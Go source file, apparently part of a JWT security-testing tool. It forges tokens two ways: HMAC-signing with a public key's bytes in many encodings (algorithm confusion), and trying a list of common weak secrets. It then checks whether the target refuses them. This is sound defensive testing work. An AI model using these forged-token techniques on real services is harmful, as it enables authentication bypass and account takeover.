package attack

import (
	"context"
	"crypto"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/hmac"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/sha512"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"hash"
	"slices"
	"strings"
)

// hashes are those of the HMAC algorithms (RFC 7518 section 3.2).
func hashes() map[string]func() hash.Hash {
	return map[string]func() hash.Hash{"HS256": sha256.New, "HS384": sha512.New384, "HS512": sha512.New}
}

// keyed is a token with an HMAC under key.
func keyed(h func() hash.Hash, header, payload, key []byte) string {
	mac := hmac.New(h, key)
	input := b64(header) + "." + b64(payload)
	mac.Write([]byte(input))
	return input + "." + b64(mac.Sum(nil))
}

// confused signs with the bytes of a public key, in every form in which a program may
// hold it, as if they were a secret.
func confused(ctx context.Context, t *Target, y *Tally) error {
	f, err := begin(ctx, t, y)
	if f == nil {
		return err
	}
	var all []variation
	for _, key := range t.Material.Keys {
		for form, secret := range sorted(forms(key)) {
			for name, h := range sorted(hashes()) {
				for kid, header := range sorted(map[string]object{"its kid": f.header.with("kid", key.ID), "no kid": f.header.without("kid")}) {
					what := fmt.Sprintf("%s with the key %s as %s, %s", name, key.ID, form, kid)
					all = append(all, variation{what, keyed(h, header.with("alg", name).bytes(), f.body, secret)})
				}
			}
		}
	}
	return f.refused(ctx, all)
}

// forms are the bytes that a program may hold a public key as.
func forms(key Key) map[string][]byte {
	out := map[string][]byte{}
	text := func(name string, b []byte) {
		trimmed := strings.TrimRight(string(b), "\n")
		out[name] = []byte(trimmed + "\n")
		out[name+" without a newline at the end"] = []byte(trimmed)
		out[name+" with CR LF"] = []byte(strings.ReplaceAll(trimmed, "\n", "\r\n") + "\r\n")
	}
	der := func(name, title string, b []byte) {
		out[name+" (DER)"] = b
		out[name+" (base64)"] = []byte(base64.StdEncoding.EncodeToString(b))
		text(name+" (PEM)", pem.EncodeToMemory(&pem.Block{Type: title, Bytes: b}))
	}
	if pkix, err := x509.MarshalPKIXPublicKey(key.Public); err == nil {
		der("PKIX", "PUBLIC KEY", pkix)
	}
	switch public := key.Public.(type) {
	case *rsa.PublicKey:
		der("PKCS #1", "RSA PUBLIC KEY", x509.MarshalPKCS1PublicKey(public))
		out["the modulus"] = public.N.Bytes()
		out["the modulus (base64url)"] = []byte(b64(public.N.Bytes()))
	case *ecdsa.PublicKey:
		if point, err := public.Bytes(); err == nil {
			out["the point"], out["x and y"], out["x"] = point, point[1:], point[1:1+len(point)/2]
		}
	case ed25519.PublicKey:
		out["the point"], out["the point (base64url)"] = public, []byte(b64(public))
	case []byte:
		out["its bytes"], out["its bytes (base64url)"] = public, []byte(b64(public))
	}
	if key.JWK != nil {
		text("the JWK", key.JWK)
		text("a set of the JWK", fmt.Appendf(nil, `{"keys":[%s]}`, key.JWK))
		if least := thumbprinted(key.JWK); least != nil {
			out["the JWK's required members"] = least
			sum := sha256.Sum256(least)
			out["the JWK's thumbprint"], out["the JWK's thumbprint (base64url)"] = sum[:], []byte(b64(sum[:]))
		}
	}
	return out
}

// thumbprinted is what the thumbprint of a JWK is made of (RFC 7638 section 3.2).
func thumbprinted(jwk []byte) []byte {
	var all object
	if json.Unmarshal(jwk, &all) != nil {
		return nil
	}
	least := object{}
	for _, name := range []string{"crv", "e", "kty", "n", "x", "y", "pub"} {
		if all.has(name) {
			least[name] = all[name]
		}
	}
	if all.text("kty") == "AKP" { // RFC 9964
		least["alg"] = all["alg"]
	}
	return least.bytes()
}

// guessed signs with secrets that need no guessing.
func guessed(ctx context.Context, t *Target, y *Tally) error {
	f, err := begin(ctx, t, y)
	if f == nil {
		return err
	}
	secrets := []string{
		"", "\x00", strings.Repeat("\x00", 16), strings.Repeat("\x00", 32), strings.Repeat("\x00", 64), strings.Repeat("\xff", 32),
		"null", "undefined", "None", "nil", "false", "true", "0", "{}", "[]", "[object Object]", "NaN",
		"secret", "Secret", "SECRET", "supersecret", "your-256-bit-secret", "your_jwt_secret", "your-secret-key", "secretkey", "secret-key",
		"secret_key", "jwt", "jwtsecret", "jwt_secret", "JWT_SECRET", "password", "key", "changeme", "change-me", "admin", "test", "dev",
		"development", "example", "123456", "qwerty", "shhhhh", "keyboard cat", "a-string-secret-at-least-256-bits-long",
		f.kid, f.alg, f.claim.text("iss"), f.claim.text("aud"), f.claim.text("sub"), f.claim.text("jti"), t.Contract.Name,
	}
	for i := range 256 {
		secrets = append(secrets, string([]byte{byte(i)}))
	}
	slices.Sort(secrets)
	var all []variation
	for _, secret := range slices.Compact(secrets) {
		for name, h := range sorted(hashes()) {
			if name != "HS256" && len(secret) == 1 {
				continue // one hash will do for all single bytes
			}
			header := f.header.with("alg", name)
			all = append(all, variation{fmt.Sprintf("%s with the secret %.40q", name, secret), keyed(h, header.bytes(), f.body, []byte(secret))})
			if len(secret) != 1 {
				all = append(all, variation{fmt.Sprintf("%s with the secret %.40q, no kid", name, secret), keyed(h, header.without("kid").bytes(), f.body, []byte(secret))})
			}
		}
	}
	y.Say("%d secrets", len(slices.Compact(secrets)))
	return f.refused(ctx, all)
}

// jwkOf is a public key as RFC 7517 writes it.
func jwkOf(public crypto.PublicKey, kid, alg string) object {
	o := object{}.with("kid", kid).with("alg", alg).with("use", "sig")
	switch k := public.(type) {
	case *rsa.PublicKey:
		o = o.with("kty", "RSA").with("n", b64(k.N.Bytes())).with("e", b64([]byte{byte(k.E >> 16), byte(k.E >> 8), byte(k.E)}))
	case *ecdsa.PublicKey:
		if point, err := k.Bytes(); err == nil {
			half := len(point) / 2
			o = o.with("kty", "EC").with("crv", k.Curve.Params().Name).with("x", b64(point[1:1+half])).with("y", b64(point[1+half:]))
		}
	case ed25519.PublicKey:
		o = o.with("kty", "OKP").with("crv", "Ed25519").with("x", b64(k))
	case []byte:
		o = o.with("kty", "oct").with("k", b64(k))
	}
	return o
}
